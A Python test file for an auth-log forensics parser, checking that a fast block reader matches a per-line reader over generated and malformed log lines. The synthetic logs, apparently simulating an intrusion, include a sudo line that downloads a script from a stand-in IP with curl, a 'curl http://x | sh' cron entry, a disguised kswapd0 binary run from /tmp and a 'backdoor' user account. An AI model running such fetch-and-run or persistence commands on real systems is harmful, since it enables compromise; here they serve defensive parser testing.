"""The auth-log block reader (the ingest path) gives exactly the rows of the per-line reader.

The per-line reader is the one the source always had; the block reader takes the common lines
apart with one regex per 4 MiB block and hands every other line to the per-line code. These
tests run both over generated logs with every line shape the source knows and lines built to
break it, and compare the Arrow tables the case store would receive.
"""

from __future__ import annotations

import datetime as dt
import gzip
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as strat

from deminer.case import Case, rows_to_arrow
from deminer.scenarios.auth_log import FORMATS, AuthLog
from deminer.sources import auth_log, auth_log_lines
from deminer.sources import syslog_time as st
from deminer.sources.auth_log_lines import LineReader, Row


def story_lines() -> list[str]:
    """Every event kind, in every line format the source reads, across a New Year."""
    log = AuthLog(host="Web1.Example.org", start=dt.datetime(2023, 12, 31, 23, 50))
    log.noise()
    log.benign_login("alice", "192.0.2.10", typos=2)
    log.brute_force("203.0.113.7", ["root", "admin", "oracle"], attempts=40,
                    invalid={"oracle", "admin"}, success_user="root")
    log.spray("198.51.100.5", [f"user{i:02d}" for i in range(4)])
    log.benign_login("bob", "192.0.2.11", method="keyboard-interactive/pam")
    log.sudo("alice", "/usr/bin/curl -fsSL http://203.0.113.7/x.sh -o /tmp/x.sh")
    log.cron("root", "/tmp/.x/kswapd0 -c /tmp/.x/config.json")
    log.useradd("backdoor", 1337)
    log.su("root", "alice")
    return [line for fmt in FORMATS for line in log.lines(fmt)]


FAIL = "sshd[7]: Failed password for root from 192.0.2.1 port 22 ssh2"
# Lines written to trip one decision each; ``Mar 10 10:00:00 h`` is prefixed where it says so.
HOSTILE_TAILS = [
    FAIL, "sshd: Failed password for root from 192.0.2.1 port 22 ssh2",
    "sshd[١٢]: Failed password for root from 192.0.2.1 port 22 ssh2",           # Unicode pid
    "sshd[1x]: Failed password for root from 192.0.2.1 port 22 ssh2",           # odd pid: no pid
    "sshd[]: Failed password for root from 192.0.2.1 port 22 ssh2",
    "sshd[1]x: Failed password for root from 192.0.2.1 port 22 ssh2",
    "sshd [1]: Failed password for root from 192.0.2.1 port 22 ssh2",
    "sshd[1][2]: Failed password for root from 192.0.2.1 port 22 ssh2",
    "a:b[3]: Failed password for root from 192.0.2.1 port 22 ssh2",
    "sshd[99999999999999999999999]: Failed password for root from 192.0.2.1 port 22 ssh2",
    "sshd[1]: Failed password for root from 192.0.2.1 port ٢٢ ssh2",            # Unicode port
    "sshd[1]: Failed password for root from 192.0.2.1 port 9223372036854775808 ssh2",
    "sshd[1]: Failed password for root from 192.0.2.1 port " + "9" * 5000 + " ssh2",
    "sshd[1]: Failed password for a\u2003b\x85c\x1cd from 192.0.2.1 port 22 ssh2",
    "sshd[1]: Failed password for x from 10.0.0.1 port 1 ssh2 from 192.0.2.9 port 2 ssh2",
    "sshd[1]: Failed none for root from 192.0.2.1 port 22 ssh2",
    "sshd[1]: message repeated 3 times: [ Failed password for root from 192.0.2.1 port 22 ssh2]",
    "sshd[1]: message repeated 99999999999999999999 times: [ Failed password for r from 192.0.2.1 port 2]",
    "sshd[1]: message repeated 2 times: [ PAM 4 more authentication failures; rhost=192.0.2.1 user=root]",
    "sshd[1]: Invalid user \u00a0x from 192.0.2.1\u2003",
    "sshd[1]: pam_unix(sshd:auth): authentication failure; user=a rhost=h.example  user=b",
    "sshd[1]: PAM 18446744073709551616 more authentication failures; rhost=192.0.2.1",
    "sudo:     bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id",
    "su[9]: (to root) alice on pts/0", "su[9]: FAILED SU (to root) mallory on pts/1",
    "useradd[5]: new user: name=x, UID=99999999999999999999999, GID=0, home=/, shell=/bin/sh",
    "usermod[5]: add 'x' to group 'sudo'", "CRON[3]: (root) CMD (curl http://x | sh)",
    "/usr/sbin/cron[3]: (root) CMD (x)", "kernel: [1.0] noise", "systemd-logind[1]: New session",
    "last message repeated 5 times", "last message repeated 2 times",
]
RAW_LINES: list[bytes] = [
    b"", b"\r", b"\r\r", b"{not json", b'{"MESSAGE": 1}',
    json.dumps({"MESSAGE": list(b"Failed password for r\xffot from 192.0.2.7 port 1 ssh2"),
                "SYSLOG_IDENTIFIER": "sshd", "_PID": "\u00b2", "__REALTIME_TIMESTAMP": "1"}).encode(),
    json.dumps({"MESSAGE": "Accepted password for u from 192.0.2.8 port 2 ssh2", "_COMM": "sshd",
                "_PID": "9" * 5000, "_HOSTNAME": "-"}).encode(),
    b"Mar 10 10:00:01 h sshd[1]: Failed password for r\xff\xfeot\x00 from 192.0.2.2 port 1 ssh2",
    b"Mar 10 10:00:02 h sshd[1]: Failed password for r\rx from 192.0.2.3 port 1 ssh2\r",
    b"Mar 10 10:00:03 h sshd[1]: Failed password for " + b"A" * 100_000 + b" from 192.0.2.4 port 1 ssh2",
    b"Mar 10 10:00:04 h sshd[1]: Failed password for u\x0bv\x0cw from 192.0.2.5 port 1 ssh2\r\r",
    b"Feb 30 10:00:00 h " + FAIL.encode(), b"Mar 99 99:99:99 h " + FAIL.encode(),
    b"Mar 10 10:00:60 h " + FAIL.encode(), b"Mar  1 10:00:00  " + FAIL.encode(),
    b"Mar  1 10:00:00 - " + FAIL.encode(), b"Mar  1 10:00:00 " + FAIL.encode(),
    b"Mar 10 10:00:05 h last message repeated 4 times", b"\xef\xbb\xbfMar 10 10:00:06 h " + FAIL.encode(),
    b"2024-03-27T13:06:56Z h " + FAIL.encode(), b"2024-03-27T13:06:56.123456789+0100 H " + FAIL.encode(),
    b"2024-03-27T13:06:56+01:00 h sshd[1]: last message repeated 2 times",
    "٢٠٢٤-03-27T13:06:56 h ".encode() + FAIL.encode(), b"2024-02-30T13:06:56 h " + FAIL.encode(),
    b'<86>1 2024-03-27T13:06:56.1Z h sshd 12 - [a b="\\]"] Failed password for x from 192.0.2.6 port 1 ssh2',
    b"Dec 31 23:59:59 h " + FAIL.encode(), b"Jan  1 00:00:00 h " + FAIL.encode(),
    b"Dec 31 23:59:58 h " + FAIL.encode(), b"Jan  1 00:00:01 h " + FAIL.encode(),
    b"Jan  1 00:00:01 h last message repeated 9 times",
    # the header of a line the per-line reader read, again after a New Year on fast lines
    b"Nov 30 10:00:00 h kernel: noise", b"Dec 31 23:59:59 h " + FAIL.encode(),
    b"Jan  1 00:00:00 h " + FAIL.encode(), b"Nov 30 10:00:00 h sshd[x]: Failed password for a from b port 1",
    # New Year on a line the per-line reader reads, between fast lines
    b"Dec 31 23:59:00 h " + FAIL.encode(), b"Jan  1 00:00:00 h kernel: x",
    b"Jan  1 00:00:30 h " + FAIL.encode(),
    b"Dec 31 23:59:40 h " + FAIL.encode(), b"Jan  1 00:00:40 h kernel: x",
    b"Dec 31 23:59:41 h " + FAIL.encode(),
]


def hostile_log() -> bytes:
    lines = [ln.encode() for ln in story_lines()]
    for n, tail in enumerate(HOSTILE_TAILS):
        lines.append(f"Mar 10 10:{n // 60:02d}:{n % 60:02d} Host-{n % 3} {tail}".encode())
        if n % 4 == 0:
            lines.append(b"Mar 10 10:00:00 h last message repeated 2 times")   # after that line
    lines += RAW_LINES
    lines += [b"Mar 11 00:00:00 h " + tail.encode() for tail in HOSTILE_TAILS]
    return b"\n".join(lines) + b"\n"


def read_rows(path: Path, per_line: bool, block: int, host: str | None = None) -> tuple[list[Row], list[str]]:
    """Rows and problems of one reader over ``block``-byte blocks (small ones cut lines apart)."""
    with st.open_log(path) as fh:
        blocks = st.Blocks(fh, block=block)
        reader = LineReader(auth_log.HANDLERS, host, 2023, blocks)
        read = reader.read_per_line if per_line else reader.read_block
        rows = [row for b in blocks for row in read(b)]
    return rows, reader.problems()


def events(batches: Any) -> pa.Table:
    """The ``events`` batches as the case store would get them: Arrow as is, dict rows converted."""
    names = [*auth_log_lines.COLUMNS, "source"]
    return pa.concat_tables((b if isinstance(b, pa.Table) else rows_to_arrow("events", b)).select(names)
                            for t, b in batches if t == "events")


@pytest.mark.parametrize("block", [64, 4096, st.BLOCK])
@pytest.mark.parametrize("host", [None, "db7"])
def test_block_reader_gives_the_per_line_rows(tmp_path: Path, block: int, host: str | None) -> None:
    path = tmp_path / "auth.log"
    path.write_bytes(hostile_log())
    fast, fast_problems = read_rows(path, per_line=False, block=block, host=host)
    slow, slow_problems = read_rows(path, per_line=True, block=block, host=host)
    assert len(slow) > 150
    for got, want in zip(fast, slow, strict=True):
        assert got == want, want[5][:120]
    assert fast_problems == slow_problems
    assert [p[:40] for p in fast_problems] == ["1 line(s) longer than 65536 bytes were c",
                                               "2 journald JSON line(s) could not be rea"]


@pytest.mark.parametrize("gz", [False, True])
def test_arrow_batches_equal_the_per_line_rows_in_the_store(tmp_path: Path, gz: bool) -> None:
    data = hostile_log()
    path = tmp_path / "auth.log.gz" if gz else tmp_path / "auth.log"
    path.write_bytes(gzip.compress(data) if gz else data)
    arrow = list(auth_log.parse_arrow(path, "auth.log", reference_year=2024, batch_rows=50))
    reference = list(auth_log.parse_file_per_line(path, "auth.log", reference_year=2024, batch_rows=50))
    assert [len(b) for t, b in arrow] == [len(b) for t, b in reference]
    fast, slow = events(arrow), events(reference)
    assert fast.schema == slow.schema and fast.to_pylist() == slow.to_pylist()
    assert [e["message"] for e in arrow[-1][1]] == [e["message"] for e in reference[-1][1]]
    # New Years: swapped lines go back a year; the log's last line (Mar 11) is in 2024
    turn = [(r["ts"].year, r["count"]) for r in fast.to_pylist() if r["raw"][:3] in ("Dec", "Jan", "Nov")
            and r["raw"][15:18] == " h "]          # the story's lines name another host
    assert turn == [(2021, 1), (2022, 1), (2021, 1), (2022, 1), (2022, 9), (2022, 1), (2023, 1), (2023, 1),
                    (2023, 1), (2024, 1), (2023, 1), (2023, 1)]
    # the store takes the Arrow batches as they come
    with Case(None) as case:
        for table, batch in arrow:
            case.add(table, batch)
        assert case.count("events") == fast.num_rows
        assert case.query("SELECT max(src_port) AS p FROM events")[0]["p"] < 2**63


def test_common_lines_take_the_block_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    log = AuthLog()
    log.brute_force("192.0.2.1", ["root", "oracle"], attempts=200, invalid={"oracle"}, success_user="root")
    log.sudo("root", "/bin/id")
    log.cron("root", "/bin/true")
    per_line: list[int] = []
    original: Callable[[LineReader, str, int], Row | None] = LineReader.line

    def counted(self: LineReader, line: str, lineno: int) -> Row | None:
        per_line.append(lineno)
        return original(self, line, lineno)

    monkeypatch.setattr(LineReader, "line", counted)
    for fmt in ("syslog", "iso"):
        path = log.write(tmp_path / f"{fmt}.log", fmt=fmt)
        per_line.clear()
        rows, _ = read_rows(path, per_line=False, block=st.BLOCK)
        # only the line of a program without a handler needed the per-line reader
        lines = path.read_text().splitlines()
        assert len(rows) > 150 and len(per_line) == 1
        assert " web1 systemd-logind[1118]: New session " in lines[per_line[0] - 1]
        assert rows == read_rows(path, per_line=True, block=st.BLOCK)[0]
        assert len(per_line) > len(rows)         # (the per-line reader itself goes through ``line``)


_PIECES = strat.sampled_from([
    "Mar 10 10:00:00 ", "Dec 31 23:59:59 ", "Jan  1 00:00:00 ", "Feb 29 12:00:00 ", "2024-01-01T00:00:00Z ",
    "h ", "- ", " ", "sshd", "sshd[1]", "sshd[١]", "sudo", "CRON[2]", "su", "kernel", ": ", ":", "[", "]",
    "Failed password for ", "Accepted publickey for ", "invalid user ", "Invalid user ", "root", " from ",
    "192.0.2.1", "::1", " port ", "22", "٢", " ssh2", ": RSA SHA256:x", "message repeated 2 times: [ ",
    "last message repeated 3 times", "Connection closed by ", "Disconnected from user ", " [preauth]",
    "Received disconnect from ", ": 11: bye", "pam_unix(sshd:auth): authentication failure; ", "rhost=",
    " user=", "PAM 2 more authentication failures;", "error: maximum authentication attempts exceeded for ",
    "pam_unix(sshd:session): session opened for user ", " : TTY=pts/0 ; COMMAND=", "(root) CMD (x)",
    "new user: name=a, UID=1, GID=1, home=/, shell=/bin/sh", "add 'a' to group 'b'", "Successful su for ",
    " by ", "\r", "\x00", "\u2003", "\ufeff", "{", '"MESSAGE"', "\\",
])
_LINE = strat.lists(_PIECES, min_size=1, max_size=12).map("".join)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(lines=strat.lists(_LINE, min_size=1, max_size=25), junk=strat.binary(max_size=40),
       block=strat.sampled_from([16, 256, st.BLOCK]))
def test_any_mix_of_line_pieces_reads_the_same(tmp_path: Path, lines: list[str], junk: bytes,
                                               block: int) -> None:
    path = tmp_path / "auth.log"
    path.write_bytes("\n".join(lines).encode() + b"\n" + junk)
    assert read_rows(path, per_line=False, block=block) == read_rows(path, per_line=True, block=block)
